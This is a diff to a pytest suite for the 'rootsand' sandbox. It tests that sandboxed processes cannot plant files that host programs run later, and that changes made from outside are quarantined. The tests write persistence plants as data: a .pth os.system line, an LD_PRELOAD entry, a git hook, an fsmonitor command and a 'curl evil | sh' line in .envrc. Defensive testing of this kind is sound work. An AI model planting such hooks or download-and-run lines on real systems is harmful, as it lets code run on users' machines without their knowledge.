@@ -74,9 +74,12 @@ def test_a_users_own_symlinked_project_directory_still_works(tmp_path):
     assert (tmp_path / "real" / "out.txt").read_text() == "built\n"
 
 
-def test_running_from_home_itself_says_all_of_it_is_bound():
+def test_running_from_home_itself_says_what_stays_read_only():
     r = sandbox("true", cwd=HOME, env=env_in(HOME), check_rc=0)
-    assert f"rootsand: warning: running from your home directory: all of {HOME} is bound into the sandbox" in r.stderr
+    assert r.stderr.splitlines() == [
+        "rootsand: warning: running from your home directory: its top level and every dot-entry in it (~/.config, "
+        "~/.local, ~/.bashrc, ...) are read-only, so nothing there can be made or changed for your host to run later; "
+        "the directories and files in it stay writable"]
 
 
 def test_a_planted_link_as_a_bind_source_is_not_followed(tmp_path, secret):
@@ -179,23 +182,28 @@ def test_a_read_only_bind_stays_read_only_while_its_destination_is_swapped(tmp_p
 
 # -- 4. the status file -----------------------------------------------------------------------------------
 
-def test_a_fifo_as_the_status_file_without_a_reader_is_refused_at_once(tmp_path):
+def test_a_fifo_as_the_status_file_without_a_reader_costs_one_warning(tmp_path):
+    # Issue 18, finding 9: a FIFO planted where the status file goes is not written, and the run goes on.
     os.mkfifo(tmp_path / "status.json")
-    r = sandbox("true", opts=["--json-status", "status.json", "--timeout", "5"], cwd=tmp_path, check_rc=125,
+    r = sandbox("echo", "ran", opts=["--json-status", "status.json", "--timeout", "5"], cwd=tmp_path, check_rc=0,
                 timeout=10)
-    assert r.stderr == "rootsand: error: --json-status: cannot write status.json: No such device or address\n"
+    assert (r.stdout, r.stderr) == ("ran\n", "rootsand: warning: --json-status: status.json is a FIFO nobody reads: "
+                                              "no status is written\n")
 
 
-def test_a_fifo_as_the_status_file_with_a_reader_is_refused(tmp_path):
+def test_a_fifo_as_the_status_file_with_a_reader_costs_one_warning(tmp_path):
     fifo = tmp_path / "status.json"
     os.mkfifo(fifo)
     reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # held open, never read: the planted stall
     try:
-        r = sandbox("true", opts=["--json-status", "status.json", "--timeout", "5"], cwd=tmp_path, check_rc=125,
-                    timeout=10)
+        r = sandbox("echo", "ran", opts=["--json-status", "status.json", "--timeout", "5"], cwd=tmp_path,
+                    check_rc=0, timeout=10)
+        assert os.read(reader, 100) == b""  # nothing was written into it
     finally:
         os.close(reader)
-    assert r.stderr.splitlines()[0] == "rootsand: error: --json-status: status.json is not a regular file"
+    assert (r.stdout, r.stderr) == ("ran\n", "rootsand: warning: --json-status: status.json is not a regular file: "
+                                              "no status is written (name a new file, or /dev/stdout, /dev/stderr "
+                                              "or /dev/fd/N)\n")
 
 
 def test_a_link_in_the_status_files_directory_is_not_followed(tmp_path):
@@ -537,3 +545,199 @@ def test_python_m_from_a_directory_a_sandbox_wrote_imports_none_of_its_modules(t
     assert done.returncode == 0, done.stderr
     assert "Seccomp:\t2" in done.stdout
     assert not marker.exists(), f"the planted {module}.py ran"
+
+
+# -- issue 18: nothing a sandbox writes may run on the host later (findings 1, 2 and 7) ---------------------
+
+import re  # noqa: E402
+import shutil  # noqa: E402
+import signal  # noqa: E402
+
+STAMP = re.compile(r"rootsand-quarantine-\d{8}-\d{6}")
+
+
+@pytest.fixture
+def in_home():
+    """Directories made in the home directory as a user would have them (`in_home(".config/direnv")`), removed
+    at the end with whatever the test left in them."""
+    made = []
+
+    def make(*paths):
+        for rel in paths:
+            top = os.path.join(HOME, rel.split("/")[0])
+            if not os.path.lexists(top):
+                made.append(top)
+            os.makedirs(os.path.join(HOME, rel), exist_ok=True)
+    yield make
+    for top in made:
+        shutil.rmtree(top, ignore_errors=True)
+
+
+# Where programs on the host take instructions from, none of them in any list: finding 1's plants.
+PLANTS = {
+    ".config/rootsand/profiles/default.toml": '[sandbox]\nhostname = "planted"\n',
+    ".bash_aliases": "touch /tmp/pwned\n",
+    ".local/lib/python3.11/site-packages/zz-evil.pth": "import os; os.system('touch /tmp/pwned')\n",
+    ".config/direnv/direnvrc": "touch /tmp/pwned\n",
+    ".config/environment.d/x.conf": "LD_PRELOAD=/tmp/evil.so\n",
+}
+
+
+def test_from_home_nothing_a_host_program_runs_later_can_be_planted(in_home, tmp_path):
+    in_home(".config/rootsand/profiles", ".local/lib/python3.11/site-packages", ".config/direnv",
+            ".config/environment.d", f"proj-{tmp_path.name}")
+    script = "; ".join(f"printf '{content}' > {path}".replace("\n", "\\n") for path, content in PLANTS.items())
+    r = sandbox("sh", "-c", script + f"; echo built > proj-{tmp_path.name}/out; echo done", cwd=HOME,
+                env=env_in(HOME))
+    assert (r.returncode, r.stdout) == (0, "done\n"), r.stderr
+    assert command_stderr(r) == [f"sh: 1: cannot create {path}: Read-only file system" for path in PLANTS]
+    assert [p for p in PLANTS if os.path.lexists(os.path.join(HOME, p))] == []
+    assert open(os.path.join(HOME, f"proj-{tmp_path.name}", "out")).read() == "built\n"  # the projects in it: writable
+    # the next plain run, from anywhere, uses the built-in default
+    assert sandbox("hostname", cwd=tmp_path, check_rc=0).stdout == "rootsand\n"
+
+
+def test_a_bind_of_home_follows_the_same_rule(in_home, tmp_path):
+    in_home(f"proj-{tmp_path.name}")
+    r = sandbox("sh", "-c", f"echo x > {HOME}/.bash_aliases; echo y > {HOME}/proj-{tmp_path.name}/f; echo z > {HOME}/new",
+                opts=["--bind", HOME], cwd=tmp_path)
+    assert command_stderr(r) == [f"sh: 1: cannot create {HOME}/.bash_aliases: Read-only file system",
+                                 f"sh: 1: cannot create {HOME}/new: Read-only file system"]
+    assert not os.path.lexists(os.path.join(HOME, ".bash_aliases")) and not os.path.lexists(os.path.join(HOME, "new"))
+    assert open(os.path.join(HOME, f"proj-{tmp_path.name}", "f")).read() == "y\n"
+    assert (f"rootsand: warning: --bind {HOME}: your home directory {HOME} is writable: its top level and every "
+            "dot-entry in it") in r.stderr
+
+
+def test_a_directory_inside_a_dot_directory_is_read_only_unless_unprotected(in_home, tmp_path):
+    name = f".config/tool-{tmp_path.name}"
+    in_home(name)
+    where = os.path.join(HOME, name)
+    r = sandbox("touch", "init.lua", cwd=where, env=env_in(where))
+    assert r.returncode == 1 and command_stderr(r) == ["touch: cannot touch 'init.lua': Read-only file system"]
+    assert (f"rootsand: warning: the current directory {where} is inside {HOME}/.config, where programs on your host find what to "
+            f"run: it is read-only in the sandbox (--unprotect ~/{name} makes it writable)") in r.stderr
+    sandbox("touch", "init.lua", opts=["--unprotect", f"~/{name}"], cwd=where, env=env_in(where), check_rc=0)
+    assert os.path.exists(os.path.join(where, "init.lua"))
+
+
+@pytest.mark.parametrize("existing", [False, True])
+def test_rootsands_own_configuration_is_never_writable(in_home, existing):
+    in_home(".config/other")
+    if existing:
+        in_home(".config/rootsand/profiles")
+    r = sandbox("sh", "-c", "echo ok > .config/other/x; mkdir -p .config/rootsand/profiles; "
+                "echo '[sandbox]' > .config/rootsand/profiles/default.toml", opts=["--unprotect", "~/.config"],
+                cwd=HOME, env=env_in(HOME))
+    errors = [line for line in command_stderr(r) if "rootsand" in line]
+    assert errors[-1] == "sh: 1: cannot create .config/rootsand/profiles/default.toml: " + (
+        "Read-only file system" if existing else "Directory nonexistent")
+    assert len(errors) == 1 if existing else (len(errors) == 2 and errors[0].endswith(": Read-only file system"))
+    assert open(os.path.join(HOME, ".config/other/x")).read() == "ok\n"  # what --unprotect asked for
+    assert not os.path.lexists(os.path.join(HOME, ".config/rootsand/profiles/default.toml"))
+    assert os.path.lexists(os.path.join(HOME, ".config/rootsand")) == existing  # the placeholder is gone
+
+
+def test_a_user_default_profile_changes_no_builtin_profile(in_home, tmp_path):
+    in_home(".config/rootsand/profiles")
+    with open(os.path.join(HOME, ".config/rootsand/profiles/default.toml"), "w") as f:
+        f.write('extends = "default"\n[sandbox]\nhostname = "mine"\n')
+    assert sandbox("hostname", cwd=tmp_path, check_rc=0).stdout == "mine\n"  # chosen by its name
+    for builtin in ("untrusted", "agent", "fakeroot"):
+        assert sandbox("hostname", opts=["--profile", builtin], cwd=tmp_path, check_rc=0).stdout == "rootsand\n"
+    assert sandbox("hostname", opts=["--profile", "build"], cwd=tmp_path, check_rc=0).stdout == "build\n"
+
+
+def git_repo(path):
+    subprocess.run(["git", "init", "-q", str(path)], check=True)
+    return path
+
+
+def paused(directory, *opts):
+    """A sandbox that says "ready" and runs until a line arrives on its stdin."""
+    proc = subprocess.Popen(rootsand_argv() + ["run", *opts, "--", "sh", "-c", "echo ready; read x"], cwd=directory,
+                            env=env_in(directory), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True)
+    assert proc.stdout.readline() == "ready\n"
+    return proc
+
+
+@pytest.mark.parametrize("profile", ["default", "agent"])
+def test_a_second_sandbox_over_the_parent_plants_nothing_git_runs(tmp_path, profile):
+    """Finding 2: A runs in proj, B over its parent writes proj's hook and config; each sandbox's check covers
+    all it could write, whoever else protects it, and A's catches what changed under its read-only paths."""
+    proj = git_repo(tmp_path / "proj")
+    marker = tmp_path / "PWNED"
+    first = paused(proj, "--profile", profile)
+    try:
+        plant = (f"printf '#!/bin/sh\\ntouch {marker}\\n' > proj/.git/hooks/pre-commit; chmod +x proj/.git/hooks/pre-commit; "
+                 f"printf '[core]\\n\\tfsmonitor = \"touch {marker}; false\"\\n' >> proj/.git/config; echo planted")
+        second = sandbox("sh", "-c", plant, cwd=tmp_path, env=env_in(tmp_path))
+        assert second.stdout == "planted\n", second.stderr
+        out, err = first.communicate("end\n", timeout=30)
+        assert first.returncode == 0, err
+    finally:
+        if first.poll() is None:
+            first.kill()
+            first.communicate()
+    warnings = [STAMP.sub("STAMP", line) for line in (second.stderr + err).splitlines() if "renamed to" in line]
+    assert warnings, second.stderr + err
+    git = ["git", "-C", str(proj), "-c", "user.name=t", "-c", "user.email=t@example.com"]
+    subprocess.run(git + ["status", "--porcelain"], capture_output=True)
+    subprocess.run(git + ["commit", "--allow-empty", "-qm", "x"], capture_output=True)
+    assert not marker.exists(), warnings
+    assert not (proj / ".git" / "hooks" / "pre-commit").exists()
+
+
+def test_a_pinned_path_changed_in_place_meanwhile_is_caught_after_a_killed_launcher(tmp_path):
+    proj = tmp_path / "proj"
+    proj.mkdir()
+    (proj / ".envrc").write_text("export MINE=1\n")
+    proc = subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", "echo ready; exec sleep 600"], cwd=proj,
+                            env=env_in(proj), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True)
+    try:
+        assert proc.stdout.readline() == "ready\n"
+        # a second sandbox over the parent writes the first one's read-only .envrc in place
+        sandbox("sh", "-c", "echo 'curl evil | sh' >> proj/.envrc", cwd=tmp_path, env=env_in(tmp_path), check_rc=0)
+        os.kill(proc.pid, signal.SIGKILL)
+        proc.wait(timeout=30)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+        proc.communicate()
+    r = run(["ps"], check_rc=0)  # the next command checks what the killed launcher could not
+    assert any(line.startswith(f"rootsand: warning: {proj}/.envrc was changed during the run, from outside the "
+                               "sandbox, while it was read-only inside") for line in r.stderr.splitlines()), r.stderr
+    assert [STAMP.sub("STAMP", n) for n in sorted(os.listdir(proj))] == [".envrc.STAMP"]
+
+
+def test_what_a_killed_launchers_sandbox_made_at_a_protected_name_is_caught(tmp_path):
+    proc = subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", "echo evil > .envrc; echo ready; exec sleep 600"],
+                            cwd=tmp_path, env=env_in(tmp_path), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True)
+    try:
+        assert proc.stdout.readline() == "ready\n"
+        os.kill(proc.pid, signal.SIGKILL)
+        proc.wait(timeout=30)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+        proc.communicate()
+    r = run(["ps"], check_rc=0)
+    assert f"rootsand: warning: {tmp_path}/.envrc was made during the run" in r.stderr
+    assert [STAMP.sub("STAMP", n) for n in sorted(os.listdir(tmp_path))] == [".envrc.STAMP"]
+
+
+def test_a_directory_looks_as_it_was_while_the_sandbox_runs(tmp_path):
+    """Finding 7: in default, build and fakeroot, nothing is made for the run: no empty .git, .envrc, ..."""
+    (tmp_path / "README").write_text("hi\n")
+    for profile in ("default", "build", "fakeroot"):
+        proc = paused(tmp_path, "--profile", profile)
+        try:
+            assert sorted(os.listdir(tmp_path)) == ["README"]
+        finally:
+            out, err = proc.communicate("end\n", timeout=30)
+        assert proc.returncode == 0, err
+    r = sandbox("sh", "-c", "ls -A; test -d .git || echo no-git", cwd=tmp_path, check_rc=0)
+    assert r.stdout == "README\nno-git\n"
